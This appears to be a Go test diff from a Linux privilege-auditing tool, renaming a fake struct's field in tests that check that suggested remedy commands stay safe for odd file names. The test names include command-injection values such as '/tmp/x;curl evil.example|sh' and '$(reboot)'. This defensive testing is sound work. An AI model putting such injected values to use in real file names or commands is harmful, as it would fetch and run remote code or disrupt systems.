@@ -15,7 +15,7 @@ func TestRemediesAreHarmless(t *testing.T) {
 	t.Parallel()
 	for _, name := range []string{"/tmp/x;curl evil.example|sh", "/tmp/$(reboot)", "/tmp/`reboot`", "/tmp/a b", "/tmp/x&", "/tmp/~root", "/tmp/'", "/tmp/\"", "/tmp/x\ny", "/tmp/*", "/tmp/{a,b}", "/tmp/#x", "/tmp/x\\y", "/tmp/!!", "/tmp/ä"} {
 		record := "F 4755 0 0 9 " + name + "\x00" + "F 2755 1000 1000 9 " + name + "2\x00"
-		r := report(t, &fake{sections: map[string]node.Section{
+		r := report(t, &fake{Sections: map[string]node.Section{
 			node.SectionSetID:        data(record),
 			node.SectionPlaces:       data("f 666 1000 111 /etc/cron.d" + name + "\x00\x00"),
 			node.SectionCapabilities: data(strings.ReplaceAll(name, "\n", "") + " cap_setuid=ep\n"),
@@ -38,7 +38,7 @@ func TestRemediesAreHarmless(t *testing.T) {
 			t.Errorf("%q: %d paths, %d commands", name, len(r.Paths), commands)
 		}
 	}
-	harmless := report(t, &fake{sections: map[string]node.Section{node.SectionSetID: data("F 4755 0 0 9 /opt/my-tool_1.2\x00")}})
+	harmless := report(t, &fake{Sections: map[string]node.Section{node.SectionSetID: data("F 4755 0 0 9 /opt/my-tool_1.2\x00")}})
 	if got := harmless.Paths[0].Steps[len(harmless.Paths[0].Steps)-1].Remedy; got != "chmod u-s -- /opt/my-tool_1.2" {
 		t.Errorf("the remedy of a harmless name is %q", got)
 	}
@@ -64,7 +64,7 @@ func TestRemediesFollowNoLink(t *testing.T) {
 	} {
 		t.Run(name, func(t *testing.T) {
 			t.Parallel()
-			for _, s := range report(t, &fake{sections: test.sections}).Graph.Steps() {
+			for _, s := range report(t, &fake{Sections: test.sections}).Graph.Steps() {
 				if (strings.HasPrefix(s.Remedy, "chmod") || strings.HasPrefix(s.Remedy, "setcap")) != test.command && (s.Way == "set-id" || s.Way == "capability" || strings.Contains(s.Does, "/x/y")) {
 					t.Errorf("%s: the remedy is %q", s.Does, s.Remedy)
 				}
@@ -76,7 +76,7 @@ func TestRemediesFollowNoLink(t *testing.T) {
 // TestRemedyOfAPrimaryGroup: gpasswd(1) takes nobody out of it.
 func TestRemedyOfAPrimaryGroup(t *testing.T) {
 	t.Parallel()
-	r := report(t, &fake{sections: map[string]node.Section{node.SectionPasswd: data(passwd + "dan:x:1009:110::/home/dan:/bin/bash\n")}})
+	r := report(t, &fake{Sections: map[string]node.Section{node.SectionPasswd: data(passwd + "dan:x:1009:110::/home/dan:/bin/bash\n")}})
 	for _, s := range r.Graph.From("linux_account:pve1/dan") {
 		if s.Way == "member" && !strings.Contains(s.Remedy, "usermod -g") {
 			t.Errorf("the remedy is %q", s.Remedy)
